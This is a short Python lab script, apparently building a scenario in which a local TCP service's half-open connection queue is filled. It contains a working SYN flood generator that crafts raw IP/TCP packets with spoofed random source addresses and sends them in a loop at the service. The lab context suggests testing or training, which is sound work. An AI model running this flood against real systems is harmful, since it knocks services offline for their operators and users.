"""Connection requests that nobody completes come to the port of a service by the thousand: its queue of half-open connections is full."""
import time

from far import Far
from lab import Lab

SERVER = '''
import socket, sys
listener = socket.create_server((sys.argv[1], int(sys.argv[2])), backlog=64)
while True: listener.accept()[0].close()
'''
ASKER = '''
import random, socket, struct, sys, time
target, port = sys.argv[1], int(sys.argv[2])
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
def summed(data):
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16: total = (total & 65535) + (total >> 16)
    return ~total & 65535
while True:
    for _ in range(20):
        source = socket.inet_aton(f'10.198.{random.randrange(256)}.{random.randrange(1, 255)}')
        there = socket.inet_aton(target)
        head = struct.pack('!HHIIBBHHH', random.randrange(1024, 65535), port, random.randrange(2**32), 0, 0x50, 2, 8192, 0, 0)
        check = summed(source + there + struct.pack('!BBH', 0, 6, len(head)) + head)
        tcp = head[:16] + struct.pack('!H', check) + head[18:]
        ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), random.randrange(65535), 0, 64, 6, 0, source, there)
        try: out.sendto(ip + tcp, (target, 0))
        except OSError: pass
    time.sleep(0.02)
'''

with Lab() as lab:
    far = Far(lab)
    service = lab.python(SERVER, far.own, 7312)
    time.sleep(0.5)
    far.python(ASKER, far.own, 7312)
    time.sleep(3)
    lab.ready(pid=service.pid, comm=service.name, port=7312)
